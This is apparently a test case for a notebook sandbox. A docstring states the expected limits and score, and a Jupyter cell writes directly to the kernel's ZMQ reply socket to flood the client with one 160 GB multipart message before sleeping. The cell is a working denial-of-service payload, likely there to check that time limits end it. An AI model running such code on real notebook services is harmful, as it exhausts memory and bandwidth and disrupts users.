"""One message of ten thousand parts of 16 MB each: 160 GB for whoever waits for its last part.

limits cell_seconds=12
score 0
says compute_content_cost was ended
"""

# %% compute_content_cost
import time
import zmq
from IPython import get_ipython

kernel = get_ipython().kernel
client = kernel.get_parent("shell")["header"]["session"].encode()
stream = kernel.shell_stream or kernel.shell_socket
replies = zmq.Socket.shadow(getattr(stream, "socket", stream).underlying)
part = bytes(16 << 20)
replies.send(client, zmq.SNDMORE)
for _ in range(10_000):
    replies.send(part, zmq.SNDMORE, copy=False)
replies.send(b"")
time.sleep(1000)
